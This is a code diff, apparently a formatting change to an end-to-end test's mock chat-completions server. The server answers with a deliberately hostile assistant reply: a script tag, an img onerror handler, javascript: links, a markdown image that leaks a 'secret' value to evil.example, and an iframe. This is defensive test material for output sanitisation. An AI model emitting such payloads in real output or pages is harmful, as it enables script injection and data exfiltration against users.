@@ -8,7 +8,7 @@ export const EVIL_REPLY = [
   'Here is **bold** text and a [safe link](https://example.com/docs).',
   '<script>window.__pwned = "script"</script>',
   '<img src="x" onerror="window.__pwned = \'img\'">',
-  '[click me](javascript:window.__pwned=\'link\')',
+  "[click me](javascript:window.__pwned='link')",
   '<a href="javascript:window.__pwned=\'a\'">html link</a>',
   '![tracker](https://evil.example/leak.png?c=secret)',
   '<iframe src="https://evil.example/frame"></iframe>',
@@ -36,7 +36,9 @@ const server = createServer(async (req, res) => {
 
   if (req.method === 'GET' && req.url === '/v1/models') {
     res.writeHead(200, { 'Content-Type': 'application/json' });
-    res.end(JSON.stringify({ object: 'list', data: [{ id: MODEL, object: 'model', owned_by: 'e2e' }] }));
+    res.end(
+      JSON.stringify({ object: 'list', data: [{ id: MODEL, object: 'model', owned_by: 'e2e' }] }),
+    );
     return;
   }
   if (req.method !== 'POST' || req.url !== '/v1/chat/completions') {
@@ -60,7 +62,9 @@ const server = createServer(async (req, res) => {
         object: 'chat.completion',
         created: Math.floor(Date.now() / 1000),
         model: MODEL,
-        choices: [{ index: 0, message: { role: 'assistant', content: EVIL_REPLY }, finish_reason: 'stop' }],
+        choices: [
+          { index: 0, message: { role: 'assistant', content: EVIL_REPLY }, finish_reason: 'stop' },
+        ],
       }),
     );
     return;
